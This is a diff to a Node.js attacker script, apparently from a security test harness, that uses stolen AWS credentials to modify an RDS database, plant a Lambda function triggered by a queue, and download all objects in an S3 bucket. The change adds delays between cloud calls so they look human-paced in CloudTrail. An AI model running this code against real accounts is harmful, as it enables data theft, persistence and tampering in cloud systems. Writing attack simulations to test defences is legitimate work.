@@ -1,7 +1,7 @@
 // The attacker. Posts one order whose note is a program for the mail template; waits for what the email service's shell
 // sends; then uses the stolen service-account token and the stolen AWS key from here, outside.
 // Settings in ATTACK (JSON): orders, kubernetes?, aws? {endpoint, region, bucket, database, queueArn, lambdaRole}, address,
-// files, waitMs. Prints one JSON line per step to stdout. Exits 0 also when nothing came: that is a defended attack.
+// files, waitMs, paceMs (between two calls to the cloud). Prints one JSON line per step to stdout. Exits 0 also when nothing came: that is a defended attack.
 import { Agent, createServer, request } from 'node:http';
 import { setTimeout as delay } from 'node:timers/promises';
 import { CreateEventSourceMappingCommand, CreateFunctionCommand, LambdaClient } from '@aws-sdk/client-lambda';
@@ -118,9 +118,11 @@ async function useToken(token) {
 async function useAwsKeys(credentials) {
   const { aws } = settings;
   const client = { endpoint: aws.endpoint, region: aws.region, credentials, requestHandler: { httpAgent: agent } };
+  await pause();
   const { Arn } = await new STSClient(client).send(new GetCallerIdentityCommand({}));
   say('aws', { call: 'GetCallerIdentity', Arn });
 
+  await pause();
   await new RDSClient(client).send(
     new ModifyDBInstanceCommand({
       DBInstanceIdentifier: aws.database,
@@ -131,6 +133,7 @@ async function useAwsKeys(credentials) {
   say('aws', { call: 'ModifyDBInstance' });
 
   const lambda = new LambdaClient(client);
+  await pause();
   await lambda.send(
     new CreateFunctionCommand({
       FunctionName: 'order-metrics',
@@ -141,18 +144,26 @@ async function useAwsKeys(credentials) {
       Code: { ZipFile: Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)]) },
     }),
   );
+  await pause();
   await lambda.send(
     new CreateEventSourceMappingCommand({ FunctionName: 'order-metrics', EventSourceArn: aws.queueArn, BatchSize: 10 }),
   );
   say('aws', { call: 'CreateFunction, CreateEventSourceMapping' });
 
   const s3 = new S3Client({ ...client, forcePathStyle: true });
+  await pause();
   const { Contents = [] } = await s3.send(new ListObjectsV2Command({ Bucket: aws.bucket }));
+  await pause();
   for (const { Key } of Contents) {
     const { Body } = await s3.send(new GetObjectCommand({ Bucket: aws.bucket, Key }));
     await Body.transformToByteArray();
   }
   say('aws', { call: 'ListObjects, GetObject', objects: Contents.length });
+}
+
+/** People type slower than CloudTrail's clock ticks, which knows whole seconds only. */
+function pause() {
+  return delay(settings.paceMs ?? 0);
 }
 
 function call(method, url, headers, body) {
